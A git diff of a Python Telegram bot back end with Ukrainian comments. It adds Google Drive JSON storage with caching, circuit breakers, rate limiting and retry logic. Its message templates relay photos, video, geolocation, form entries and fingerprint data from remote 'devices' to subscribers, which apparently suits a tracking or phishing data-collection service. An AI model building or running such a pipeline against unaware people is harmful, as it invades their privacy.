@@ -1,21 +1,25 @@
 import os
 import asyncio
-import json
+import hmac
 import logging
-import base64
-from io import BytesIO
+import random
+import re
+import signal
 import time
 import socket
-from typing import Any, Dict, List, Optional
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any, Dict, List, Optional, Set, Tuple
 
-import requests
+import aiohttp
+import google_auth_httplib2
+import httplib2
+import orjson
+import pybase64
 from aiotg import Bot, Chat
 from aiohttp import web
 from google.oauth2.service_account import Credentials
 from googleapiclient.discovery import build
-from googleapiclient.http import MediaIoBaseUpload, MediaIoBaseDownload
-from requests.adapters import HTTPAdapter
-from urllib3.util.retry import Retry
+from googleapiclient.http import MediaInMemoryUpload
 
 # ---------------- ЛОГУВАННЯ ----------------
 logging.basicConfig(level=logging.INFO, format='%(asctime)s - %(levelname)s - %(message)s')
@@ -29,32 +33,86 @@ GOOGLE_SERVICE_ACCOUNT_EMAIL = os.environ.get("GOOGLE_SERVICE_ACCOUNT_EMAIL")
 GOOGLE_PRIVATE_KEY = os.environ.get("GOOGLE_PRIVATE_KEY")
 PORT = int(os.environ.get("PORT", 8080))
 FORCE_IPV4 = os.environ.get("FORCE_IPV4", "true").lower() in ("1", "true", "yes")
+CACHE_ENABLED = os.environ.get("CACHE_ENABLED", "true").lower() in ("1", "true", "yes")
+CACHE_TTL = float(os.environ.get("CACHE_TTL", 10))
+DB_FLUSH_DELAY = float(os.environ.get("DB_FLUSH_DELAY", 1.0))
+DNS_CACHE_TTL = int(os.environ.get("DNS_CACHE_TTL", 300))
 
-# ---------------- IPv4 ONLY ХАК ----------------
-def force_ipv4_only():
-    """
-    На деяких хостингах (Render, Railway, ін.) egress по IPv6 може бути недоступний.
-    Telegram часто резолвиться в IPv6. Хак нижче змушує socket використовувати лише IPv4.
-    Можна вимкнути змінною FORCE_IPV4=false
-    """
-    if not FORCE_IPV4:
-        logger.info("FORCE_IPV4=false — залишаємо стандартну мережеву конфігурацію.")
-        return
+# ---------------- IPv4 ----------------
+# На деяких хостингах (Render, Railway, ін.) egress по IPv6 може бути недоступний,
+# а Telegram і Google часто резолвляться в IPv6. Замість глобальної підміни
+# socket.getaddrinfo обмежуємо сімейство адрес лише для власних HTTP-клієнтів:
+# aiohttp-конектора Telegram (family=AF_INET) та httplib2 для Drive.
+# Можна вимкнути змінною FORCE_IPV4=false
+TELEGRAM_ADDR_FAMILY = socket.AF_INET if FORCE_IPV4 else 0
+
+# Адреси googleapis.com кешуємо на DNS_CACHE_TTL секунд (для Telegram те саме
+# робить ttl_dns_cache конектора aiohttp).
+_ipv4_dns_cache: Dict[Tuple[str, int], Tuple[float, List[Tuple[str, int]]]] = {}
 
-    logger.warning("УВАГА: Вмикаю IPv4-only режим для socket.getaddrinfo (FORCE_IPV4=true).")
-    _orig_getaddrinfo = socket.getaddrinfo
+def _resolve_ipv4(host: str, port: int) -> List[Tuple[str, int]]:
+    key = (host, port)
+    cached = _ipv4_dns_cache.get(key)
+    if cached and time.monotonic() < cached[0]:
+        return cached[1]
+    sockaddrs = [info[4] for info in socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)]
+    _ipv4_dns_cache[key] = (time.monotonic() + DNS_CACHE_TTL, sockaddrs)
+    return sockaddrs
 
-    def _v4_only_getaddrinfo(host, port, family=0, type=0, proto=0, flags=0):
-        return _orig_getaddrinfo(host, port, socket.AF_INET, type, proto, flags)
+def _demote_ipv4(host: str, port: int, sockaddr: Tuple[str, int]):
+    # Адреса, що не відповіла, йде в кінець списку: наступні з'єднання
+    # почнуть зі справних, а не чекатимуть таймауту на ній щоразу.
+    key = (host, port)
+    cached = _ipv4_dns_cache.get(key)
+    if cached and sockaddr in cached[1]:
+        sockaddrs = [a for a in cached[1] if a != sockaddr] + [sockaddr]
+        _ipv4_dns_cache[key] = (cached[0], sockaddrs)
 
-    socket.getaddrinfo = _v4_only_getaddrinfo
+class _IPv4HTTPSConnection(httplib2.HTTPSConnectionWithTimeout):
+    def connect(self):
+        # Через проксі (HTTPS_PROXY тощо) з'єднується сам httplib2.
+        if self.proxy_info and self.proxy_info.isgood() and self.proxy_info.applies_to(self.host):
+            return super().connect()
+        # Як і httplib2, пробуємо адреси по черзі, доки якась не відповість.
+        err = None
+        for sockaddr in list(_resolve_ipv4(self.host, self.port)):
+            try:
+                sock = socket.create_connection(sockaddr, self.timeout)
+            except OSError as e:
+                err = e
+                _demote_ipv4(self.host, self.port, sockaddr)
+                continue
+            try:
+                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+                self.sock = self._context.wrap_socket(sock, server_hostname=self.host)
+            except Exception:
+                sock.close()
+                raise
+            return
+        # Жодна адреса не відповіла — можливо, записи застаріли; наступне
+        # з'єднання резолвить хост заново.
+        _ipv4_dns_cache.pop((self.host, self.port), None)
+        raise err
 
-force_ipv4_only()
+class _IPv4Http(httplib2.Http):
+    def request(self, uri, method="GET", body=None, headers=None,
+                redirections=httplib2.DEFAULT_MAX_REDIRECTS, connection_type=None):
+        if connection_type is None and uri.startswith("https://"):
+            connection_type = _IPv4HTTPSConnection
+        return super().request(uri, method, body, headers, redirections, connection_type)
 
 # ---------------- Google Drive ----------------
 SCOPES = ['https://www.googleapis.com/auth/drive']
+DRIVE_HTTP_TIMEOUT = 30
+DRIVE_NUM_RETRIES = 5
+# До цього розміру БД вантажимо одним запитом (simple upload); більші файли —
+# resumable-сесією чанками такого ж розміру.
+DRIVE_SIMPLE_UPLOAD_LIMIT = 5 * 1024 * 1024
+# Окремий однопотоковий пул для googleapiclient: блокуючі HTTPS-виклики не
+# займають спільний default executor, а httplib2.Http завжди працює з одного потоку.
+DRIVE_POOL = ThreadPoolExecutor(max_workers=1, thread_name_prefix="drive")
 
-def _build_drive_client():
+def _load_drive_credentials() -> Credentials:
     if not all([GOOGLE_SERVICE_ACCOUNT_EMAIL, GOOGLE_PRIVATE_KEY]):
         raise ValueError("GOOGLE_SERVICE_ACCOUNT_EMAIL та GOOGLE_PRIVATE_KEY обов'язкові.")
     creds_dict = {
@@ -69,50 +127,338 @@ def _build_drive_client():
         "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs",
         "client_x509_cert_url": f"https://www.googleapis.com/robot/v1/metadata/x509/{GOOGLE_SERVICE_ACCOUNT_EMAIL.replace('@', '%40')}"
     }
-    creds = Credentials.from_service_account_info(creds_dict, scopes=SCOPES)
-    return build('drive', 'v3', credentials=creds)
+    return Credentials.from_service_account_info(creds_dict, scopes=SCOPES)
 
+def _build_drive_client(creds: Credentials):
+    # Один httplib2.Http на весь процес: TCP/TLS-з'єднання з googleapis.com
+    # перевикористовуються між викликами. Http не потокобезпечний, тому всі
+    # звернення до Drive йдуть через однопотоковий DRIVE_POOL.
+    http_cls = _IPv4Http if FORCE_IPV4 else httplib2.Http
+    http = google_auth_httplib2.AuthorizedHttp(creds, http=http_cls(timeout=DRIVE_HTTP_TIMEOUT))
+    return build('drive', 'v3', http=http, cache_discovery=False, static_discovery=True)
+
+# Розбір PEM-ключа сервісного акаунта — найдорожча частина ініціалізації,
+# тож облікові дані створюються один раз на процес і спільні для всіх
+# клієнтів Google (токен оновлюється в тому ж об'єкті).
 try:
-    drive_service = _build_drive_client()
+    drive_credentials = _load_drive_credentials()
+    drive_service = _build_drive_client(drive_credentials)
 except Exception as e:
     logger.critical(f"Не вдалося завантажити облікові дані Google: {e}")
     raise SystemExit(1)
 
-db_lock = asyncio.Lock()
+# ---------------- ЗАПОБІЖНИКИ ----------------
+class CircuitBreaker:
+    """
+    Запобіжник для зовнішнього сервісу. Після `fail_threshold` невдач поспіль
+    розмикається (is_open) на `reset_after` секунд, і виклики не робляться
+    зовсім. Потім пропускає запити знову (half-open): перша ж невдача
+    розмикає його ще раз, успіх — скидає лічильник.
+    """
 
-async def read_db() -> Optional[Dict[str, Any]]:
-    async with db_lock:
-        try:
-            request = drive_service.files().get_media(fileId=GOOGLE_DRIVE_FILE_ID)
-            fh = BytesIO()
-            downloader = MediaIoBaseDownload(fh, request)
-            done = False
-            while not done:
-                status, done = downloader.next_chunk()
-            fh.seek(0)
-            raw = fh.read().decode('utf-8') if fh.getbuffer().nbytes else ""
-            return json.loads(raw) if raw else {}
-        except Exception as e:
-            logger.error(f"Помилка читання з Google Drive: {e}")
-            return None
+    def __init__(self, name: str, fail_threshold: int = 5, reset_after: float = 30.0):
+        self.name = name
+        self.fail_threshold = fail_threshold
+        self.reset_after = reset_after
+        self.failures = 0
+        self.opened_at: Optional[float] = None
 
-async def write_db(data: Dict[str, Any]) -> bool:
-    async with db_lock:
-        try:
-            fh = BytesIO(json.dumps(data, ensure_ascii=False, indent=2).encode('utf-8'))
-            media = MediaIoBaseUpload(fh, mimetype='application/json', resumable=True)
-            drive_service.files().update(fileId=GOOGLE_DRIVE_FILE_ID, media_body=media).execute()
+    @property
+    def is_open(self) -> bool:
+        return self.opened_at is not None and time.monotonic() - self.opened_at < self.reset_after
+
+    def record_success(self):
+        if self.opened_at is not None:
+            logger.info(f"{self.name}: сервіс знову доступний, запобіжник замкнено")
+        self.failures = 0
+        self.opened_at = None
+
+    def record_failure(self):
+        self.failures += 1
+        if self.failures >= self.fail_threshold:
+            if not self.is_open:
+                logger.warning(f"{self.name}: {self.failures} невдач поспіль, запобіжник розімкнено на {self.reset_after:.0f} с")
+            self.opened_at = time.monotonic()
+
+drive_breaker = CircuitBreaker("Google Drive")
+telegram_breaker = CircuitBreaker("Telegram")
+
+# ---------------- БД (кеш у пам'яті) ----------------
+class DriveDB:
+    """
+    JSON-БД з Google Drive, що живе в пам'яті процесу.
+
+    Хендлери отримують через snapshot() той самий словник лише для читання.
+    Зміни описуються як операції й застосовуються під _lock до БД, звіреної з
+    Drive перед самим записом, тож чужі зміни, записані тим часом, не
+    затираються. Активація (activate) записується одразу; блокування лише
+    запам'ятовуються (mark_blocked) як список chat_id, і фоновий flusher
+    записує їх одним запитом не частіше ніж раз на flush_delay секунд.
+
+    Файл також редагує веб-кабінет (нові коди активації), тому раз на ttl
+    секунд звіряємо поле `version` і качаємо вміст, тільки якщо воно змінилося.
+    Разом із даними тримаємо індекси chatId → user та activationId → user (лише
+    для прив'язок у статусі pending); зміни, що їх зачіпають, мають іти через
+    методи класу (activate_binding, block_binding), які латають індекси на місці.
+    """
+
+    def __init__(self, file_id: str, ttl: float, flush_delay: float, cache_enabled: bool = True):
+        self.file_id = file_id
+        self.ttl = ttl
+        self.flush_delay = flush_delay
+        self.cache_enabled = cache_enabled
+        self._data: Optional[Dict[str, Any]] = None
+        self._version: Optional[str] = None
+        self._expires_at = 0.0
+        self._by_chat: Dict[Any, Dict[str, Any]] = {}
+        self._pending_activation: Dict[Any, Dict[str, Any]] = {}
+        # Лише серіалізує звернення до Drive; свіжий кеш віддається без нього.
+        self._lock = asyncio.Lock()
+        self._dirty = asyncio.Event()
+        self._pending_blocks: Set[int] = set()
+        # Словник, який зараз вантажиться в Drive (None, якщо запису немає).
+        self._saving: Optional[Dict[str, Any]] = None
+
+    # --- синхронні виклики googleapiclient, виконуються в DRIVE_POOL ---
+    def _fetch_version_sync(self) -> Optional[str]:
+        meta = drive_service.files().get(
+            fileId=self.file_id, fields="version"
+        ).execute(num_retries=DRIVE_NUM_RETRIES)
+        return meta.get("version")
+
+    def _download_sync(self) -> Dict[str, Any]:
+        # Файл БД невеликий, тож один GET alt=media дешевший за чанкований
+        # MediaIoBaseDownload, що робить окремий запит на кожен чанк.
+        raw = drive_service.files().get_media(
+            fileId=self.file_id
+        ).execute(num_retries=DRIVE_NUM_RETRIES)
+        return orjson.loads(raw) if raw else {}
+
+    def _upload_sync(self, payload: bytes) -> Optional[str]:
+        resumable = len(payload) > DRIVE_SIMPLE_UPLOAD_LIMIT
+        media = MediaInMemoryUpload(
+            payload, mimetype='application/json', resumable=resumable, chunksize=DRIVE_SIMPLE_UPLOAD_LIMIT
+        )
+        result = drive_service.files().update(
+            fileId=self.file_id, media_body=media, fields="version"
+        ).execute(num_retries=DRIVE_NUM_RETRIES)
+        return result.get("version")
+
+    # --- кеш та індекси ---
+    @staticmethod
+    def _build_indexes(data: Dict[str, Any]):
+        by_chat: Dict[Any, Dict[str, Any]] = {}
+        pending_activation: Dict[Any, Dict[str, Any]] = {}
+        for user in data.get("users", []):
+            binding = user.get("telegramBinding")
+            if not binding:
+                continue
+            if binding.get("chatId"):
+                by_chat.setdefault(binding["chatId"], user)
+            if binding.get("activationId") and binding.get("status") == "pending":
+                pending_activation.setdefault(binding["activationId"], user)
+        return by_chat, pending_activation
+
+    def _store(self, data: Dict[str, Any], version: Optional[str]):
+        if data is not self._data:
+            self._by_chat, self._pending_activation = self._build_indexes(data)
+            self._data = data
+        # Той самий об'єкт, що вже в кеші: індекси актуальні, оновлюємо лише версію.
+        self._version = version
+        self._expires_at = time.monotonic() + self.ttl
+
+    def _invalidate(self):
+        self._data = None
+        self._version = None
+        self._expires_at = 0.0
+        self._by_chat = {}
+        self._pending_activation = {}
+
+    def _fresh(self) -> Optional[Dict[str, Any]]:
+        # Під час запису поточного словника читачі не чекають на _lock: після
+        # запису кеш однаково вказуватиме саме на цей об'єкт.
+        if self.cache_enabled and self._data is not None and (
+            time.monotonic() < self._expires_at or self._saving is self._data
+        ):
+            return self._data
+        return None
+
+    # --- читання / запис ---
+    # Блокуючі виклики googleapiclient виконуються в DRIVE_POOL, щоб event loop
+    # і далі обслуговував Telegram та /notify; _lock лише впорядковує перевірку
+    # версії та запис між корутинами.
+    @staticmethod
+    async def _in_pool(func, *args):
+        return await asyncio.get_running_loop().run_in_executor(DRIVE_POOL, func, *args)
+
+    async def snapshot(self) -> Optional[Dict[str, Any]]:
+        cached = self._fresh()
+        if cached is not None:
+            return cached
+        if drive_breaker.is_open:
+            # Drive недоступний: краще віддати застарілий кеш, ніж чекати на тайм-аути.
+            return self._data
+        async with self._lock:
+            try:
+                version = None
+                if self.cache_enabled:
+                    cached = self._fresh()
+                    if cached is not None:
+                        return cached
+                    version = await self._in_pool(self._fetch_version_sync)
+                    if self._data is not None and version == self._version:
+                        drive_breaker.record_success()
+                        self._expires_at = time.monotonic() + self.ttl
+                        return self._data
+
+                data = await self._in_pool(self._download_sync)
+                drive_breaker.record_success()
+                if self.cache_enabled:
+                    self._store(data, version)
+                return data
+            except Exception as e:
+                logger.error(f"Помилка читання з Google Drive: {e}")
+                drive_breaker.record_failure()
+                return None
+
+    async def _base_for_write(self) -> Dict[str, Any]:
+        # Викликається під _lock. Перед кожним записом звіряємо версію: якщо
+        # кабінет змінив файл після останнього читання, зміну застосовуємо до
+        # свіжої копії, а не затираємо його дані застарілим кешем. Без кешу
+        # кожен snapshot() — окрема копія, тож завжди качаємо заново.
+        version = None
+        if self.cache_enabled:
+            version = await self._in_pool(self._fetch_version_sync)
+            if self._data is not None and version == self._version:
+                return self._data
+        data = await self._in_pool(self._download_sync)
+        if self.cache_enabled:
+            self._store(data, version)
+        return data
+
+    async def _commit(self, apply) -> Tuple[bool, Any]:
+        # apply(data) змінює актуальну БД на місці й повертає (changed, result);
+        # записуємо лише якщо щось змінилося. Повертає (ok, result).
+        async with self._lock:
+            if drive_breaker.is_open:
+                logger.error("Google Drive недоступний (запобіжник розімкнено), запис пропущено")
+                return False, None
+            try:
+                data = await self._base_for_write()
+                changed, result = apply(data)
+                if changed:
+                    # Серіалізуємо ще в event loop: поки потік вантажить файл,
+                    # хендлери можуть читати той самий словник.
+                    payload = orjson.dumps(data, option=orjson.OPT_INDENT_2 | orjson.OPT_NON_STR_KEYS)
+                    self._saving = data
+                    version = await self._in_pool(self._upload_sync, payload)
+                    if self.cache_enabled:
+                        self._store(data, version)
+                drive_breaker.record_success()
+                return True, result
+            except Exception as e:
+                logger.error(f"Помилка запису в Google Drive: {e}")
+                drive_breaker.record_failure()
+                # Дані вже могли бути змінені на місці — наступне читання має піти в Drive.
+                self._invalidate()
+                return False, None
+            finally:
+                self._saving = None
+
+    async def activate(self, activation_id: str, chat_id: int, username: Optional[str]) -> Tuple[bool, Optional[Dict[str, Any]]]:
+        # Код могли видати в кабінеті щойно, тож шукаємо його в БД, звіреній з
+        # Drive безпосередньо перед записом, а не лише в кеші в межах TTL.
+        # Повертає (ok, user); user=None — код недійсний.
+        def apply(data):
+            user = self.find_pending_activation(data, activation_id)
+            if user is None:
+                return False, None
+            self.activate_binding(data, user, chat_id, username)
+            return True, user
+        return await self._commit(apply)
+
+    def mark_blocked(self, chat_id: int):
+        self._pending_blocks.add(chat_id)
+        self._dirty.set()
+
+    async def flush(self) -> bool:
+        chat_ids, self._pending_blocks = self._pending_blocks, set()
+        self._dirty.clear()
+        if not chat_ids:
             return True
-        except Exception as e:
-            logger.error(f"Помилка запису в Google Drive: {e}")
+
+        def apply(data):
+            changed = [chat_id for chat_id in chat_ids if self.block_binding(data, chat_id)]
+            return bool(changed), changed
+
+        ok, changed = await self._commit(apply)
+        if not ok:
+            # Запис не вдався чи пропущений запобіжником — повертаємо chat_id у
+            # чергу, щоб flusher спробував ще раз.
+            self._pending_blocks |= chat_ids
+            self._dirty.set()
+        elif changed:
+            logger.info(f"Деактивовано у БД користувачів, що заблокували бота: {changed}")
+        return ok
+
+    async def run_flusher(self):
+        while True:
+            await self._dirty.wait()
+            await asyncio.sleep(self.flush_delay)
+            if not await self.flush():
+                # Drive недоступний — повторюємо не частіше, ніж запобіжник
+                # пропускає пробний запит.
+                await asyncio.sleep(drive_breaker.reset_after)
+
+    # --- пошук та зміни ---
+    def find_by_chat(self, db_data: Dict[str, Any], chat_id: int) -> Optional[Dict[str, Any]]:
+        if db_data is self._data:
+            return self._by_chat.get(chat_id)
+        for user in db_data.get("users", []):
+            binding = user.get("telegramBinding")
+            if binding and binding.get("chatId") == chat_id:
+                return user
+        return None
+
+    def find_pending_activation(self, db_data: Dict[str, Any], activation_id: str) -> Optional[Dict[str, Any]]:
+        if db_data is self._data:
+            return self._pending_activation.get(activation_id)
+        for user in db_data.get("users", []):
+            binding = user.get("telegramBinding")
+            if binding and binding.get("activationId") == activation_id and binding.get("status") == "pending":
+                return user
+        return None
+
+    def activate_binding(self, db_data: Dict[str, Any], user: Dict[str, Any], chat_id: int, username: Optional[str]):
+        binding = user.setdefault("telegramBinding", {})
+        old_chat_id = binding.get("chatId")
+        binding["status"] = "active"
+        binding["chatId"] = chat_id
+        binding["username"] = username
+        if db_data is self._data:
+            self._pending_activation.pop(binding.get("activationId"), None)
+            if old_chat_id != chat_id and self._by_chat.get(old_chat_id) is user:
+                # Старий chatId більше не веде до цього користувача; як і лінійний
+                # пошук, віддаємо його першому іншому користувачу з таким chatId.
+                del self._by_chat[old_chat_id]
+                for other in db_data.get("users", []):
+                    if (other.get("telegramBinding") or {}).get("chatId") == old_chat_id:
+                        self._by_chat[old_chat_id] = other
+                        break
+            self._by_chat.setdefault(chat_id, user)
+
+    def block_binding(self, db_data: Dict[str, Any], chat_id: int) -> bool:
+        # Повертає True, якщо статус змінився і БД треба записати.
+        user = self.find_by_chat(db_data, chat_id)
+        binding = user.get("telegramBinding") if user else None
+        if not binding or binding.get("status") == 'bot_blocked':
             return False
+        binding["status"] = 'bot_blocked'
+        if db_data is self._data and self._pending_activation.get(binding.get("activationId")) is user:
+            self._pending_activation.pop(binding["activationId"])
+        return True
 
-def find_user_by_chat_id(db_data: Dict[str, Any], chat_id: int) -> Optional[Dict[str, Any]]:
-    for user in db_data.get("users", []):
-        binding = user.get("telegramBinding")
-        if binding and binding.get("chatId") == chat_id:
-            return user
-    return None
+db = DriveDB(GOOGLE_DRIVE_FILE_ID, ttl=CACHE_TTL, flush_delay=DB_FLUSH_DELAY, cache_enabled=CACHE_ENABLED)
 
 # ---------------- ІНІЦІАЛІЗАЦІЯ БОТА ----------------
 if not all([BOT_TOKEN, API_SECRET, GOOGLE_DRIVE_FILE_ID, GOOGLE_SERVICE_ACCOUNT_EMAIL, GOOGLE_PRIVATE_KEY]):
@@ -121,202 +467,473 @@ if not all([BOT_TOKEN, API_SECRET, GOOGLE_DRIVE_FILE_ID, GOOGLE_SERVICE_ACCOUNT_
 
 bot = Bot(api_token=BOT_TOKEN)
 
+# ---------------- КОНТРОЛЬ НАВАНТАЖЕННЯ ----------------
+class AdaptiveLimiter:
+    """
+    Обмежує кількість одночасних /notify за схемою AIMD: кожні `window` замірів
+    затримки Telegram (лише JSON-виклики tg_call, без завантажень медіа) ліміт
+    росте на 1, якщо середнє нижче `target_latency`, інакше зменшується вдвічі
+    (у межах [min_limit, max_limit]).
+    Коли в черзі вже `max_queue` запитів, нові слід відхиляти (overloaded);
+    acquire(timeout) повертає False, якщо місце не звільнилося вчасно.
+    """
+
+    def __init__(self, initial: int, min_limit: int, max_limit: int,
+                 target_latency: float, window: int, max_queue: int):
+        self.limit = initial
+        self.min_limit = min_limit
+        self.max_limit = max_limit
+        self.target_latency = target_latency
+        self.window = window
+        self.max_queue = max_queue
+        self._in_flight = 0
+        self._queued = 0
+        self._samples: List[float] = []
+        self._cond = asyncio.Condition()
+
+    @property
+    def overloaded(self) -> bool:
+        return self._queued >= self.max_queue
+
+    async def acquire(self, timeout: Optional[float] = None) -> bool:
+        async with self._cond:
+            self._queued += 1
+            try:
+                await asyncio.wait_for(
+                    self._cond.wait_for(lambda: self._in_flight < self.limit), timeout
+                )
+            except asyncio.TimeoutError:
+                # Пробудження могло дістатися саме нам — передаємо його далі.
+                if self._in_flight < self.limit:
+                    self._cond.notify()
+                return False
+            finally:
+                self._queued -= 1
+            self._in_flight += 1
+            return True
+
+    async def release(self):
+        async with self._cond:
+            self._in_flight -= 1
+            # Після збільшення ліміту можна впустити одразу кількох.
+            self._cond.notify(max(1, self.limit - self._in_flight))
+
+    async def __aenter__(self):
+        await self.acquire()
+
+    async def __aexit__(self, *exc):
+        await self.release()
+
+    def record(self, latency: float):
+        self._samples.append(latency)
+        if len(self._samples) < self.window:
+            return
+        mean = sum(self._samples) / len(self._samples)
+        self._samples.clear()
+        if mean < self.target_latency:
+            self.limit = min(self.max_limit, self.limit + 1)
+        else:
+            self.limit = max(self.min_limit, self.limit // 2)
+
+# Кожен /notify може тримати в пам'яті до 20 МБ тіла плюс декодовані медіа,
+# тож стеля 16 одночасних обробників обмежує пік RSS незалежно від сплеску.
+notify_limiter = AdaptiveLimiter(
+    initial=16, min_limit=4, max_limit=16, target_latency=1.0, window=20, max_queue=50,
+)
+# Скільки запит може чекати на місце, перш ніж отримати 429.
+NOTIFY_QUEUE_TIMEOUT = 2.0
+NOTIFY_RETRY_AFTER = 5
+
+# ---------------- TELEGRAM BOT API ----------------
+# aiotg лишається лише для отримання оновлень (getUpdates) і диспетчеризації
+# команд. Відправка йде напряму через aiohttp по тій самій ClientSession
+# (bot.session, див. telegram_session), тож усі запити до Telegram ділять один пул з'єднань.
+TELEGRAM_API_URL = f"https://api.telegram.org/bot{BOT_TOKEN}"
+
+# Час останньої відповіді Telegram по спільній сесії (будь-якої: getUpdates,
+# відправки). keep_alive пінгує getMe лише якщо сесія довго простоювала.
+_tg_activity: Dict[str, float] = {"last_response": float("-inf")}
+
+async def _on_tg_request_end(session, trace_config_ctx, params):
+    _tg_activity["last_response"] = time.monotonic()
+
+class TelegramError(Exception):
+    def __init__(self, description: str, code: Optional[int] = None, retry_after: Optional[int] = None):
+        super().__init__(description)
+        self.description = description
+        self.code = code
+        self.retry_after = retry_after
+
+async def _tg_response(resp: aiohttp.ClientResponse) -> Any:
+    try:
+        body = orjson.loads(await resp.read())
+    except ValueError:
+        raise TelegramError(f"HTTP {resp.status}: {resp.reason}", resp.status)
+    if not body.get("ok"):
+        raise TelegramError(
+            body.get("description") or f"HTTP {resp.status}",
+            body.get("error_code", resp.status),
+            (body.get("parameters") or {}).get("retry_after"),
+        )
+    return body["result"]
+
+# Тіла запитів/відповідей Telegram (де)серіалізуємо orjson одразу з/у bytes,
+# без проміжного str, який робить json=... / resp.json() в aiohttp.
+_JSON_HEADERS = {"Content-Type": "application/json"}
+
+async def tg_call(method: str, **params) -> Any:
+    payload = orjson.dumps({k: v for k, v in params.items() if v is not None})
+    started = time.monotonic()
+    try:
+        async with bot.session.post(f"{TELEGRAM_API_URL}/{method}", data=payload, headers=_JSON_HEADERS) as resp:
+            return await _tg_response(resp)
+    finally:
+        notify_limiter.record(time.monotonic() - started)
+
+async def tg_upload(method: str, files: List[Tuple[str, bytes, str]], **params) -> Any:
+    # files — список (поле, вміст, ім'я файлу). FormData збирається заново на
+    # кожну спробу, тож повтор після збою відправляє файли повністю, а не
+    # вичитані після першої спроби потоки.
+    form = aiohttp.FormData()
+    for k, v in params.items():
+        if v is not None:
+            form.add_field(k, v if isinstance(v, str) else orjson.dumps(v).decode())
+    for field, content, filename in files:
+        form.add_field(field, content, filename=filename)
+    # Затримку завантажень у notify_limiter не пишемо: вона залежить від розміру
+    # файлів, а не від стану Telegram, і тримала б ліміт на мінімумі.
+    async with bot.session.post(f"{TELEGRAM_API_URL}/{method}", data=form) as resp:
+        return await _tg_response(resp)
+
+# ---------------- ШАБЛОНИ СПОВІЩЕНЬ ----------------
+_PARSE_MODE = "Markdown"
+_PHOTO_CAPTION = "📸 **Нові фото!**\n\n**Пристрій:** `{fp}`\n**Час:** `{ts}`"
+_VIDEO_CAPTION = "📹 **Нове відео!**\n\n**Пристрій:** `{fp}`\n**Час:** `{ts}`"
+_LOCATION_TEXT = (
+    "📍 **Отримано геолокацію!**\n\n"
+    "**Пристрій:** `{fp}`\n"
+    "**Координати:** `{lat}, {lon}`\n\n"
+    "[Відкрити на карті](https://www.google.com/maps?q={lat},{lon})"
+)
+_FORM_TEXT = "📝 **Заповнено форму: '{form_id}'**\n\n**Пристрій:** `{fp}`\n\n{fields}"
+_DEVICE_INFO_TEXT = "ℹ️ **Інформація про пристрій**\n\n**Відбиток (FP):** `{fp}`\n**Час:** `{ts}`\n\n{fields}"
+
+def _fmt_kv(fields: Optional[Dict[str, Any]], skip_empty: bool = True):
+    # Кожне значення перетворюємо на рядок не більше одного разу; числа й bool
+    # ніколи не бувають порожніми, тож перевірку strip() для них пропускаємо.
+    for key, value in (fields or {}).items():
+        if skip_empty and not isinstance(value, (int, float)):
+            value = value if isinstance(value, str) else str(value)
+            if not value.strip():
+                continue
+        yield f"- **{key}:** `{value}`"
+
+def _fmt_fields(fields: Optional[Dict[str, Any]]) -> str:
+    return "\n".join(_fmt_kv(fields)) or "_(порожньо)_"
+
+def _fmt_device_info(fields: Optional[Dict[str, Any]]) -> str:
+    # Тут показуємо всі поля як є, зокрема порожні.
+    return "\n".join(_fmt_kv(fields, skip_empty=False)) or "_(немає даних)_"
+
 # ---------------- ХЕЛПЕРИ ВІДПРАВКИ з РЕТРАЯМИ ----------------
+RETRY_MAX_SLEEP = 30.0
+_RETRY_AFTER_RE = re.compile(r"retry after (\d+)", re.IGNORECASE)
+_BLOCKED_RE = re.compile(r"bot was blocked by the user|user is deactivated|chat not found", re.IGNORECASE)
+
 def is_blocked_error(e: Exception) -> bool:
     msg = getattr(e, "description", "") or str(e)
-    return any(s in msg for s in (
-        "bot was blocked by the user",
-        "user is deactivated",
-        "chat not found",
-        "Forbidden: bot was blocked by the user",
-    ))
+    return _BLOCKED_RE.search(msg) is not None
+
+# Повторюємо лише те, що може минути саме: обрив/тайм-аут з'єднання та
+# відповіді Telegram 429/5xx. Bad Request, Unauthorized, Forbidden і помилки
+# в нашому коді повертаються одразу.
+RETRYABLE_STATUS = (429, 500, 502, 503, 504)
+RETRYABLE_EXCEPTIONS = (aiohttp.ClientConnectionError, asyncio.TimeoutError)
+
+def is_retryable_error(e: Exception) -> bool:
+    if isinstance(e, TelegramError):
+        return e.code in RETRYABLE_STATUS
+    return isinstance(e, RETRYABLE_EXCEPTIONS)
+
+def _retry_delay(e: Exception, attempt: int, base_sleep: float) -> float:
+    # Якщо Telegram сам каже, скільки чекати (429 "retry after N"), слухаємось.
+    # Інакше — експоненційна пауза з повним jitter (випадково від 0 до межі),
+    # щоб одночасні обробники не повторювали запити синхронно.
+    retry_after = getattr(e, "retry_after", None)
+    if retry_after:
+        return float(retry_after)
+    m = _RETRY_AFTER_RE.search(getattr(e, "description", "") or str(e))
+    if m:
+        return float(m.group(1))
+    return random.uniform(0, min(RETRY_MAX_SLEEP, base_sleep * (2 ** (attempt - 1))))
 
 async def retry_send(func, *args, **kwargs):
     max_attempts = kwargs.pop("_max_attempts", 5)
     base_sleep = kwargs.pop("_base_sleep", 0.8)
     for attempt in range(1, max_attempts + 1):
         try:
-            return await func(*args, **kwargs)
+            result = await func(*args, **kwargs)
         except Exception as e:
-            if is_blocked_error(e):
+            if not is_retryable_error(e):
                 raise
             logger.warning(f"Помилка (спроба {attempt}/{max_attempts}): {e}")
-            sleep_s = base_sleep * (2 ** (attempt - 1))
-            await asyncio.sleep(min(sleep_s, 10))
+            if attempt < max_attempts:
+                delay = _retry_delay(e, attempt, base_sleep)
+                # Довгий flood-wait не чекаємо: обробник тримав би слот
+                # notify_limiter і HTTP-запит хвилинами. Краще одразу віддати
+                # помилку, а повтор лишити викликачу.
+                if delay > RETRY_MAX_SLEEP:
+                    logger.warning(f"Telegram просить зачекати {delay:.0f} с (більше за {RETRY_MAX_SLEEP:.0f} с), не повторюю")
+                    raise
+                await asyncio.sleep(delay)
+        else:
+            telegram_breaker.record_success()
+            return result
+    telegram_breaker.record_failure()
     raise RuntimeError("Вичерпано спроби відправки у Telegram")
 
+async def safe_send_text(chat_id, text: str, **options):
+    return await retry_send(tg_call, "sendMessage", chat_id=chat_id, text=text, **options)
+
+# Тип медіа → (метод Bot API для одного файлу, назва для логів).
+_MEDIA_KINDS = {"photo": ("sendPhoto", "фото"), "video": ("sendVideo", "відео")}
+
